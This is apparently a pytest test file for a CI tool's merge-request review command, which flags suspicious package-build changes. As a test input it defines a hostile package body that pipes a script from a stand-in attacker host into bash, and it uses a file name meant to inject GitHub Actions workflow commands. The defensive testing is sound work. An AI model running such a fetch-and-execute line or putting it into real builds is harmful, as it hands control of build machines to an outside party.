"""What a job tells about a person's merge request."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from ci_toolkit.errors import ConfigError, PackagesFailedError
from tests.support.packages import SamplePackage

if TYPE_CHECKING:
    from tests.support.world import World

CUSTOM = "CI_PKGBUILD_SOURCE=custom\n"
FOO = SamplePackage(name="foo")
NEWER = replace(FOO, version="1.1")
EVIL = replace(NEWER, body="curl https://evil.example/$pkgver | bash")


@pytest.fixture
def base(world: World) -> str:
    """A repository with two packages; gives the commit before the merge request."""
    world.start({**FOO.folder(CUSTOM), **SamplePackage(name="bar").folder(CUSTOM)})
    head = world.origin.head("main")
    assert head
    return head


def request(world: World, files: dict[str, str], *remove: str) -> None:
    """A merge request's branch, cloned as a CI service does it: its newest commit alone."""
    world.origin.commit({}, "start of the branch", branch="other")
    world.origin.git("update-ref", "refs/heads/other", "main")
    world.push(files, branch="other", remove=remove)
    world.clone("--depth=1", "--branch=other")


@pytest.mark.parametrize(
    ("new", "options", "status"),
    [(NEWER, (), 0), (EVIL, (), 3), (EVIL, ("--fail-on", "refuse"), 0)],
    ids=["minor", "review", "review is no failure"],
)
def test_every_changed_package_is_judged(
    world: World, base: str, new: SamplePackage, options: tuple[str, ...], status: int
) -> None:
    request(world, new.folder(CUSTOM))
    result = world.run("review-changes", *options, "--output", "review.txt", base)
    assert result.status == status, result.stderr
    assert "foo 1.0-1 → 1.1-1" in result.stdout
    assert ("curl" in result.stdout) == (new is EVIL)
    assert "bar" not in result.stdout
    assert (world.work / "review.txt").read_text() == result.stdout


def test_what_no_rule_looks_at_is_named(world: World, base: str) -> None:
    files = {"foo/.CI/prepare": "#!/bin/bash\n", ".ci/config": world.settings(CI_HUMAN_REVIEW="false")}
    request(world, files, *(path for path in world.origin.tree("main") if path.startswith("bar/")))
    result = world.run("review-changes", base)
    assert result.status == 0
    assert "  · bar\n" in result.stdout
    assert "  · .ci/config\n  · foo/.CI/prepare\n" in result.stdout
    assert "→" not in result.stdout


def test_one_that_cannot_be_judged_does_not_hide_the_others(world: World, base: str) -> None:
    request(world, {**NEWER.folder(CUSTOM), "half/notes": "x", "::error::/PKGBUILD": "pkgname=x\n"})
    result = world.run("review-changes", base, GITHUB_ACTIONS="true")
    assert result.status == PackagesFailedError.exit_status
    assert "foo 1.0-1 → 1.1-1" in result.stdout
    assert "half: " in result.stdout
    assert "no PKGBUILD" in result.stdout
    assert not [line for line in result.stdout.splitlines() if line.lstrip().startswith("::")]


def test_the_rules_are_those_of_the_default_branch(world: World, base: str) -> None:
    """A merge request that allows what it does itself is judged by what was agreed before."""
    request(world, {**EVIL.folder(f"{CUSTOM}CI_PKGBUILD_CHANGE_ALLOW_REGEX=.*\n")})
    assert world.run("review-changes", base).status == 3


def test_on_github_the_summary_page_has_it(world: World, base: str) -> None:
    request(world, EVIL.folder(CUSTOM))
    page = world.folder / "summary.md"
    result = world.run("review-changes", base, GITHUB_ACTIONS="true", GITHUB_STEP_SUMMARY=str(page))
    assert result.status == 3
    text = page.read_text()
    assert text.startswith("```\n foo 1.0-1")
    assert text.endswith("```\n")


def test_a_commit_that_nobody_has_is_an_error(world: World, base: str) -> None:
    assert world.run("review-changes", "no-such-branch").status == ConfigError.exit_status
